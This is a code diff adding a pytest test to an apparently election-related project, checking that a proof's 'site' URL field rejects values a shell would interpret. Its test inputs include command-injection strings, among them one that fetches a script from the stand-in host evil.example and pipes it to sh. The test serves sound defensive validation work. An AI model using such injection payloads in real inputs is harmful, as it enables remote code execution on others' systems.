@@ -123,6 +123,22 @@ def test_a_share_is_exact_where_votes_and_ballots_are_known() -> None:
     assert [process.percent_of(name) for name in "ABCD"] == [Fraction(100, 3), Fraction("33.3"), None, None]
 
 
+@pytest.mark.parametrize(
+    "site",
+    [
+        *("https://x.example/$(curl${IFS}evil.example|sh)", "https://x.example/`id`", "https://x.example/;id"),
+        *("https://x.example/?a=1", "https://x.example/#a", "https://:word@x.example", "https://x.example/'a'"),
+        "https://exämple.org",
+    ],
+)
+def test_a_proofs_site_is_nothing_that_a_shell_reads_otherwise(site: str) -> None:
+    # The entry's page shows commands with it, to be pasted.
+    proof = {"site": site, "election": "u", "public_key": HASH, "certificate": HASH, "archive": HASH}
+    with pytest.raises(errors.WrongField) as raised:
+        KINDS["endorsement"].from_json(Reader(changed("endorsement", proof=proof)))
+    assert raised.value.where == "proof.site"
+
+
 def test_what_is_proven_is_so_whatever_else_is_named() -> None:
     statement = KINDS["endorsement"].from_json(Reader(changed("endorsement")))
     assert isinstance(statement, EndorsementStatement)
